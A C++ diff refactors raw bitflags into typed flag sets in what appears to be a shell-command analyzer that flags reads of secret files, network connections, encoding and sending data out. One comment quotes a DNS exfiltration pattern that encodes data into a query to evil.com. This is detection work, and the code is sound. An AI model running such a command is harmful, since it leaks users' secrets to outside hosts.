@@ -152,36 +152,36 @@ StepReader::StepReader(const Arguments& arguments, StepContext& context)
       sent_(context.stdin_sources),
       first_effect_(context.out.effects.size()),
       start_(context.cwd) {
-  if ((arguments.marks & fact_.recursive) != 0) attributes_ |= is_recursive;
-  if ((arguments.marks & fact_.forced) != 0) attributes_ |= is_forced;
+  if ((arguments.marks & fact_.recursive) != 0) attributes_ |= Attribute::recursive;
+  if ((arguments.marks & fact_.forced) != 0) attributes_ |= Attribute::forced;
   for (const Argument& argument : arguments.values) all_.push_back(&argument);
   for (const Argument& argument : arguments.operands) all_.push_back(&argument);
 }
 
-std::uint8_t StepReader::read() {
+Sources StepReader::read() {
   for (const Argument* argument : all_) take_in(*argument);
   for (const Argument* argument : all_) {
     if (argument->role == Role::sought) mark_sought_text(argument->text, first_effect_, context_);
   }
   const bool decodes = (arguments_.marks & fact_.decodes) != 0;
-  if (decodes) sources_ |= from_decoder;
-  if (fact_.encodes && !decodes) sources_ |= from_encoder;
+  if (decodes) sources_ |= Source::decoder;
+  if (fact_.encodes && !decodes) sources_ |= Source::encoder;
   const bool tells_secret = std::any_of(arguments_.effects.begin(), arguments_.effects.end(), [](const EffectFact& e) {
-    return e.kind == EffectKind::read && (e.attributes & is_shown) != 0;
+    return e.kind == EffectKind::read && e.attributes.has(Attribute::shown);
   });
   const bool prints_secrets = fact_.prints_secrets && (arguments_.marks & fact_.quiet) == 0;
-  if ((prints_secrets || tells_secret) && arguments_.command.empty()) sources_ |= from_secret;
-  if (tells_secret) sources_ |= from_teller;
+  if ((prints_secrets || tells_secret) && arguments_.command.empty()) sources_ |= Source::secret;
+  if (tells_secret) sources_ |= Source::teller;
   if (serves_folder()) {
     Word folder;
     folder.text = ".";
     if (context_.cwd.empty()) folder.kind = Word::Kind::unknown;
-    take_path(EffectKind::read, {Role::read, &folder, folder.text, {}}, folder.text, true, is_recursive);
+    take_path(EffectKind::read, {Role::read, &folder, folder.text, {}}, folder.text, true, Attribute::recursive);
   }
   const bool connects =
       !hosts_.empty() || std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
                                      [](const EffectFact& e) { return e.kind == EffectKind::connect; });
-  if (connects) sources_ |= from_network;
+  if (connects) sources_ |= Source::network;
   for (const Argument* argument : all_) give_out(*argument);
   say_effects();
   return sources_;
@@ -210,8 +210,8 @@ void StepReader::take_in(const Argument& argument) {
       break;
     case Role::version:
       if (argument.word->is_known() &&
-          (resolve_path(argument.text, context_.cwd, false, true, context_.world).classes & path_secret) != 0)
-        take_path(EffectKind::read, argument, argument.text, false, is_shown);
+          resolve_path(argument.text, context_.cwd, false, true, context_.world).classes.has(PathClass::secret))
+        take_path(EffectKind::read, argument, argument.text, false, Attribute::shown);
       break;
     case Role::ref:
       has_ref_ = true;
@@ -236,7 +236,8 @@ void StepReader::take_in(const Argument& argument) {
     case Role::blob: {
       const std::size_t colon = argument.text.find(':');
       if (colon != std::string::npos)
-        take_path(EffectKind::read, argument, std::string_view(argument.text).substr(colon + 1), false, is_shown);
+        take_path(EffectKind::read, argument, std::string_view(argument.text).substr(colon + 1), false,
+                  Attribute::shown);
       break;
     }
     case Role::mount:
@@ -260,7 +261,7 @@ void StepReader::take_in(const Argument& argument) {
       if (argument.role == Role::move && argument.text.starts_with("/dev/")) replace_device(EffectKind::move, argument);
       if (path_kind_of(argument.role, kind)) {
         take_path(kind, argument, argument.text, argument.role == Role::send,
-                  argument.role == Role::show ? static_cast<std::uint16_t>(is_shown) : std::uint16_t{0});
+                  argument.role == Role::show ? Attributes(Attribute::shown) : Attributes());
       }
       break;
     }
@@ -275,7 +276,7 @@ void StepReader::take_in(const Argument& argument) {
       // A key is no script: the shell's complaints tell what stands in it.
       if (argument.word->is_known() &&
           is_kept_secret(resolve_path(argument.text, context_.cwd, false, true, context_.world).classes))
-        take_path(EffectKind::read, argument, argument.text, false, is_shown);
+        take_path(EffectKind::read, argument, argument.text, false, Attribute::shown);
       break;
     case Role::text:
     case Role::sought:
@@ -334,7 +335,7 @@ void StepReader::take_mount(const Argument& argument) {
   if (mount.source.empty()) return;
   const std::string path = resolve_path(mount.source, start_, false, true, context_.world).path;
   if (gives_host_rights(path, mount.is_read_only))
-    return add_effect(EffectKind::container, Action::host_rights, path, 0, context_);
+    return add_effect(EffectKind::container, Action::host_rights, path, {}, context_);
   take_path(EffectKind::read, argument, mount.source, false);
 }
 
@@ -354,7 +355,7 @@ namespace {
 
 void StepReader::note_host(const Argument& argument) {
   if (argument.text.starts_with("file:"))
-    return take_path(EffectKind::read, argument, without_scheme(argument.text), false, is_shown);
+    return take_path(EffectKind::read, argument, without_scheme(argument.text), false, Attribute::shown);
   constexpr std::size_t kMaxHosts = 64;
   if (hosts_.size() >= kMaxHosts) return;
   // `https://h.example/$ID`: the host is known although the rest is not.
@@ -367,46 +368,48 @@ void StepReader::note_host(const Argument& argument) {
   const std::string address = is_known ? std::string() : address_in_front(argument.text);
   const std::string& name = is_known ? host : address.empty() ? argument.text : address;
   // `dig $(… | base64).evil.com`: the name itself is the message.
-  if ((argument.word->sources & from_encoder) != 0 && (argument.role == Role::host || !is_known))
+  if (argument.word->sources.has(Source::encoder) && (argument.role == Role::host || !is_known))
     has_encoded_name_ = true;
   if (has_user_info(argument.text)) is_redirected_ = true;
   if (!name.empty() && std::find(hosts_.begin(), hosts_.end(), name) == hosts_.end()) hosts_.push_back(name);
 }
 
 void StepReader::take_path(EffectKind kind, const Argument& argument, std::string_view text, bool is_sent,
-                           std::uint16_t extra) {
+                           Attributes extra) {
   if (text == "-" && kind == EffectKind::read) return;  // standard input
   text = without_scheme(text);
   const std::size_t before = context_.out.effects.size();
   const std::string folder = argument.role == Role::read_first ? std::exchange(context_.cwd, start_) : context_.cwd;
-  add_path_effect(kind, Action::none, *argument.word, text, attributes_ | extra, 0, context_);
+  add_path_effect(kind, Action::none, *argument.word, text, attributes_ | extra, {}, context_);
   context_.cwd = folder;
   if (context_.out.effects.size() == before) return;
   Effect& effect = context_.out.effects.back();
-  if (fact_.looks) effect.classes &= ~static_cast<std::uint32_t>(path_device);
-  std::uint8_t found = sources_by_class(effect.classes);
+  if (fact_.looks) effect.classes.clear(PathClass::device);
+  Sources found = sources_by_class(effect.classes);
   const auto written = context_.scope.written.find(effect.object);
   if (written != context_.scope.written.end()) found |= written->second;
   // `tar xzf x-*.tgz`: what this call put there is meant as well.
-  if ((effect.attributes & is_wildcard) != 0) {
+  if (effect.attributes.has(Attribute::wildcard)) {
     for (const auto& [path, sources] : context_.scope.written) {
-      if (sources != 0 && matches_glob(effect.object, path)) found |= sources;
+      if (!sources.is_empty() && matches_glob(effect.object, path)) found |= sources;
     }
   }
   // A whole home holds its keys.
-  if ((effect.classes & (path_home | path_root)) != 0 && (effect.attributes & (is_recursive | is_shown)) != 0)
-    found |= from_secret | from_key;
-  const bool is_read_whole =
-      kind == EffectKind::read && (effect.attributes & (is_recursive | is_shown)) == is_recursive;
+  if (effect.classes.has_any(PathClass::home | PathClass::root) &&
+      effect.attributes.has_any(Attribute::recursive | Attribute::shown))
+    found |= Source::secret | Source::key;
+  const bool is_read_whole = kind == EffectKind::read &&
+                             (effect.attributes & (Attribute::recursive | Attribute::shown)) == Attribute::recursive;
   // Who packs a folder of the project, or what nobody can see, packs more than one file that was meant.
-  const bool is_packed = argument.role == Role::read && (effect.classes & (path_project | path_unknown)) != 0 &&
-                         (effect.classes & path_regenerable) == 0;
-  if (is_read_whole && ((effect.classes & path_cwd) != 0 || is_packed)) found |= from_project;
+  const bool is_packed = argument.role == Role::read &&
+                         effect.classes.has_any(PathClass::project | PathClass::unknown) &&
+                         !effect.classes.has(PathClass::regenerable);
+  if (is_read_whole && (effect.classes.has(PathClass::cwd) || is_packed)) found |= Source::project;
   found |= sources_below(effect.object, context_.scope, context_.world);
   sources_ |= found;
   if (is_sent) sent_ |= found;
   sends_file_ |= is_sent && kind == EffectKind::read;
-  sends_unknown_ |= is_sent && (effect.classes & path_unknown) != 0;
+  sends_unknown_ |= is_sent && effect.classes.has(PathClass::unknown);
   if (argument.role == Role::stage) context_.scope.staged |= found;
 }
 
@@ -418,23 +421,23 @@ bool StepReader::reads_file(int step) const {
 
 bool StepReader::serves_folder() const {
   return std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
-                     [](const EffectFact& e) { return e.kind == EffectKind::read && e.attributes == 0; });
+                     [](const EffectFact& e) { return e.kind == EffectKind::read && e.attributes.is_empty(); });
 }
 
-bool is_kept_secret(std::uint32_t classes) {
-  return (classes & path_secret) != 0 && (classes & (path_credential_store | path_system)) != 0;
+bool is_kept_secret(PathClasses classes) {
+  return classes.has(PathClass::secret) && classes.has_any(PathClass::credential_store | PathClass::system);
 }
 
-std::uint16_t what_is_carried(std::uint8_t sources) {
-  std::uint16_t carried = (sources & from_project) != 0 ? carries_project : 0;
-  if ((sources & from_secret) == 0) return carried;
-  carried |= carries_secret;
-  if ((sources & from_key) != 0) carried |= carries_key;
-  if ((sources & (from_encoder | from_decoder)) != 0) carried |= is_obfuscated;
+Attributes what_is_carried(Sources sources) {
+  Attributes carried = sources.has(Source::project) ? Attributes(Attribute::carries_project) : Attributes();
+  if (!sources.has(Source::secret)) return carried;
+  carried |= Attribute::carries_secret;
+  if (sources.has(Source::key)) carried |= Attribute::carries_key;
+  if (sources.has_any(Source::encoder | Source::decoder)) carried |= Attribute::obfuscated;
   return carried;
 }
 
-std::uint8_t add_effects(const Arguments& arguments, StepContext& context) {
+Sources add_effects(const Arguments& arguments, StepContext& context) {
   return StepReader(arguments, context).read();
 }
 
